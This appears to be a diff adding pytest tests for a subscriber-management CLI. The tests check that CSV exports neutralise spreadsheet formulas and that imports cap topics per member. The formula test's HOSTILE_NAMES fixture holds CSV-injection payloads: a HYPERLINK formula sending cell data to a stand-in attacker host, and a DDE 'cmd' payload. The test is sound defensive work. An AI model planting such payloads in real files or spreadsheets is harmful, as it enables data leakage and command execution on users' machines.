@@ -361,3 +361,74 @@ def test_export_round_trips_with_import(cli, engine: Engine, tmp_path: Path, db_
 def _profile(rows: list[dict[str, str]]) -> list[tuple[str, ...]]:
     keys = ("email", "name", "topics", "frequency", "timezone", "send_hour")
     return sorted(tuple(r[k] for k in keys) for r in rows)
+
+
+# ---------------------------------------------------------------- spreadsheet formulas
+
+HOSTILE_NAMES = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click to verify")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "'=already quoted",
+    "''+twice",
+    "'Tis the season",
+)
+
+
+def test_export_neutralises_formulas_and_import_reads_them_back(
+    cli, engine: Engine, tmp_path: Path
+) -> None:
+    """No exported cell starts with = + - @ (a spreadsheet would run it); importing the export
+    gives back the same names, addresses and topics, and a leading apostrophe of its own."""
+    with session_scope(engine) as session:
+        for i, name in enumerate(HOSTILE_NAMES):
+            record = members.MemberRecord(f"m{i}@example.org", name, ("Space",))
+            members.add_member(session, record, T0)
+        members.add_member(
+            session, members.MemberRecord("-dash@example.org", "Dash", ("=Evil topic",)), T0
+        )
+    out = tmp_path / "export.csv"
+    assert cli("subscribers", "export", "--output", str(out)).exit_code == 0
+    with out.open(encoding="utf-8", newline="") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(" in out.read_text(encoding="utf-8")
+    assert "'Tis the season" in cells  # nothing to neutralise: left as it is
+
+    fresh = tmp_path / "fresh"
+    fresh.mkdir()
+    cli.env["DIGEST_DATABASE_URL"] = f"sqlite:///{fresh / 'digest.db'}"
+    result = cli("subscribers", "import", str(out))
+    assert result.exit_code == 0, result.output
+    again = tmp_path / "again.csv"
+    assert cli("subscribers", "export", "--output", str(again)).exit_code == 0
+    assert again.read_text(encoding="utf-8") == out.read_text(encoding="utf-8")
+    from digest.db import make_engine
+
+    copy = make_engine(f"sqlite:///{fresh / 'digest.db'}")
+    with Session(copy) as session:
+        names = {m.email: m.name for m in session.exec(select(Subscriber))}
+        topics = set(session.exec(select(Topic.name)))
+    copy.dispose()
+    assert [names[f"m{i}@example.org"] for i in range(len(HOSTILE_NAMES))] == list(HOSTILE_NAMES)
+    assert names["-dash@example.org"] == "Dash" and "=Evil topic" in topics
+
+
+def test_a_row_with_too_many_topics_is_refused(cli, engine: Engine, tmp_path: Path) -> None:
+    """One row with 5,000 topics made them all public choices for ever."""
+    topics = ";".join(f"Topic {i}" for i in range(5000))
+    path = write(tmp_path, HEADER + f'big@example.org,Big,"{topics}",,,\n')
+    result = cli("subscribers", "import", str(path))
+    assert result.exit_code == 2
+    assert (
+        "members.csv: line 2: field 'topics': 5000 topics; a member has at most 50 "
+        "(setting max_topics_per_member)" in result.output
+    )
+    with Session(engine) as session:
+        assert session.exec(select(Topic)).all() == []
+    added = cli("subscribers", "add", "a@example.org", "--topic", topics[:2000])
+    assert added.exit_code == 2 and "a member has at most 50" in added.output
+    cli.env["DIGEST_MAX_TOPICS_PER_MEMBER"] = "5000"
+    assert cli("subscribers", "import", str(path)).exit_code == 0
+    assert len(topics_of(engine, "big@example.org")) == 5000
